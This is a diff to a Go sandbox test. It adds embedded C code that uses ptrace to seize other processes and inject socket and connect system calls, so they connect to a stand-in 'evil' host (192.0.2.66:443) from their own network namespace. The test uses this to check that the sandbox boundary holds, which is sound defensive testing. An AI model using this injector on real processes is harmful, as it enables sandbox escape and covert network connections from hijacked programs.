@@ -22,6 +22,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"runtime"
 	"strconv"
 	"strings"
 	"sync"
@@ -57,6 +58,11 @@ const attackSource = `
 #include <sys/wait.h>
 #include <termios.h>
 #include <unistd.h>
+#ifdef __x86_64__
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/user.h>
+#endif
 
 static const char *res(long r) { return r == 0 ? "ok" : strerrorname_np(errno); }
 
@@ -123,6 +129,72 @@ static int try_ptrace(pid_t pid) {
 	return 1;
 }
 
+/* Targets to take over for real: processes it could ptrace in another
+   network namespace (none, if the boundary holds). */
+static pid_t targets[64];
+static int ntargets;
+
+#ifdef __x86_64__
+/* Run one system call in a stopped tracee, at a syscall instruction. */
+static long remote_syscall(pid_t pid, const struct user_regs_struct *base, unsigned long insn, long nr, long a1, long a2, long a3) {
+	struct user_regs_struct r = *base;
+	r.rax = nr;
+	r.orig_rax = -1; /* no syscall restart on resume */
+	r.rdi = a1;
+	r.rsi = a2;
+	r.rdx = a3;
+	r.rip = insn;
+	int st;
+	if (ptrace(PTRACE_SETREGS, pid, 0, &r) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) || waitpid(pid, &st, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &r))
+		return -100000;
+	return (long)r.rax;
+}
+
+/* Make process pid connect to IP:PORT from its own network namespace: the
+   attack the boundary exists to stop. */
+static void inject_connect(pid_t pid, const char *label, const char *ip, int port) {
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) { printf("INJECT %s seize-%s\n", label, strerrorname_np(errno)); return; }
+	int st;
+	struct user_regs_struct base;
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &st, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &base) != 0) {
+		printf("INJECT %s stop-failed\n", label);
+		ptrace(PTRACE_DETACH, pid, 0, 0);
+		return;
+	}
+	/* A tracee stopped in a system call sits just after its syscall instruction. */
+	errno = 0;
+	long w = ptrace(PTRACE_PEEKTEXT, pid, base.rip - 2, 0);
+	if (errno || (w & 0xffff) != 0x050f) {
+		printf("INJECT %s no-syscall-instruction\n", label);
+		ptrace(PTRACE_DETACH, pid, 0, 0);
+		return;
+	}
+	unsigned long insn = base.rip - 2;
+	unsigned long mem = (base.rsp - 512) & ~15UL;
+	long saved[2];
+	saved[0] = ptrace(PTRACE_PEEKDATA, pid, mem, 0);
+	saved[1] = ptrace(PTRACE_PEEKDATA, pid, mem + 8, 0);
+	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
+	inet_pton(AF_INET, ip, &sa.sin_addr);
+	long words[2];
+	memcpy(words, &sa, sizeof sa);
+	ptrace(PTRACE_POKEDATA, pid, mem, words[0]);
+	ptrace(PTRACE_POKEDATA, pid, mem + 8, words[1]);
+	long fd = remote_syscall(pid, &base, insn, SYS_socket, AF_INET, SOCK_STREAM, 0);
+	long rc = -100001;
+	if (fd >= 0) {
+		rc = remote_syscall(pid, &base, insn, SYS_connect, fd, (long)mem, sizeof sa);
+		remote_syscall(pid, &base, insn, SYS_close, fd, 0, 0);
+	}
+	ptrace(PTRACE_POKEDATA, pid, mem, saved[0]);
+	ptrace(PTRACE_POKEDATA, pid, mem + 8, saved[1]);
+	ptrace(PTRACE_SETREGS, pid, 0, &base);
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+	printf("INJECT %s socket=%ld connect=%s\n", label, fd, rc == 0 ? "ok" : rc < 0 && rc > -4096 ? strerrorname_np((int)-rc) : "failed");
+	fflush(stdout);
+}
+#endif
+
 /* Is dir a procfs of our own pid namespace (its "self" is us)? */
 static int own_view(const char *dir) {
 	char p[512], l[64];
@@ -164,8 +236,10 @@ static void probe_view(const char *dir) {
 		if (!n) continue;
 		netns_of(dir, e->d_name, net, sizeof net);
 		comm_of(dir, e->d_name, comm, sizeof comm);
-		for (int i = 0; i < n; i++)
+		for (int i = 0; i < n; i++) {
 			printf("REACH %s %ld %s %s view=%s\n", how[i], pid, net, comm, dir);
+			if (!strcmp(how[i], "ptrace") && strcmp(net, self_net) && ntargets < 64) targets[ntargets++] = (pid_t)pid;
+		}
 	}
 	closedir(d);
 	fflush(stdout);
@@ -218,6 +292,21 @@ static int procs(const char *scratch, const char *release) {
 		_exit(0);
 	}
 	waitpid(c, NULL, 0);
+#ifdef __x86_64__
+	/* The injector works: a child of ours, in our network, connects (and
+	   tunwall refuses it). Then the real targets, if any. */
+	pid_t ctl = fork();
+	if (ctl == 0) { for (;;) pause(); }
+	usleep(100000);
+	inject_connect(ctl, "control", "192.0.2.66", 443);
+	kill(ctl, SIGKILL);
+	waitpid(ctl, NULL, 0);
+	for (int i = 0; i < ntargets; i++) {
+		char label[32];
+		snprintf(label, sizeof label, "%d", targets[i]);
+		inject_connect(targets[i], label, "192.0.2.66", 443);
+	}
+#endif
 	printf("DONE\nSCAN\n");
 	fflush(stdout);
 	/* Stay alive (bounded) while the test looks at us from the host. */
@@ -553,6 +642,7 @@ func TestNoProcessTheSandboxCanReachHasAnotherNetwork(t *testing.T) {
 			os.Mkdir(scratch, 0o777)
 			os.Chmod(scratch, 0o777)
 			release := filepath.Join(w.dir, fmt.Sprintf("release-%d", i))
+			evilBefore := len(w.Arrivals("evil"))
 			var top, netns uint64
 			var procs []sandboxProc
 			var tunwallUserTree bool
@@ -602,6 +692,12 @@ func TestNoProcessTheSandboxCanReachHasAnotherNetwork(t *testing.T) {
 				if c.bwrap == nil && takeover && pid == "1" && ownView[view] {
 					t.Errorf("the command can take over the sandbox's init, which holds tunwall's control socket: %s", l)
 				}
+			}
+			if runtime.GOARCH == "amd64" && !strings.Contains(r.stdout, "INJECT control socket=") {
+				t.Errorf("the injector did not work even on the attacker's own child\n%s", r)
+			}
+			if a := w.Arrivals("evil"); len(a) > evilBefore {
+				t.Errorf("a process the sandbox took over reached the evil server: %+v", a[evilBefore])
 			}
 			if tunwallUserTree {
 				t.Errorf("tunwall's own process is in the sandbox's user namespace tree")
